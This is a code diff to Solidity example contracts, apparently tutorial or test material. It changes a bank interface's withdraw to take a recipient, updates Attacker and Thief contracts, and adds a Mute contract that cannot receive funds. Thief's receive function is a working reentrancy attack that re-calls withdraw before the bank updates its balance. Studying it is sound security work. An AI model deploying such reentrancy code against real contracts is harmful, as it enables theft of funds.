@@ -3,7 +3,7 @@ pragma solidity 0.8.37;
 
 interface IBank {
     function deposit() external payable;
-    function withdraw() external;
+    function withdraw(address payable to) external;
     function transfer(address to, uint256 amount) external;
     function balanceOf(address account) external view returns (uint256);
 }
@@ -19,7 +19,7 @@ abstract contract Attacker {
 
     function attack() external payable {
         BANK.deposit{value: msg.value}();
-        BANK.withdraw();
+        BANK.withdraw(payable(address(this)));
     }
 }
 
@@ -28,7 +28,7 @@ contract Thief is Attacker {
 
     receive() external payable {
         // Runs in the middle of withdraw(): the bank has not updated our balance yet.
-        if (address(BANK).balance >= msg.value) BANK.withdraw();
+        if (address(BANK).balance >= msg.value) BANK.withdraw(payable(address(this)));
     }
 }
 // #endregion attack
@@ -55,6 +55,22 @@ contract Reader is Attacker {
 
     receive() external payable {
         seen = BANK.balanceOf(address(this));
+    }
+}
+
+/// Cannot receive CFX. Its owner decides where its deposit goes.
+contract Mute {
+    address private immutable OWNER = msg.sender;
+
+    error NotOwner();
+
+    function deposit(IBank bank) external payable {
+        bank.deposit{value: msg.value}();
+    }
+
+    function withdraw(IBank bank, address payable to) external {
+        if (msg.sender != OWNER) revert NotOwner();
+        bank.withdraw(to);
     }
 }
 // #endregion second
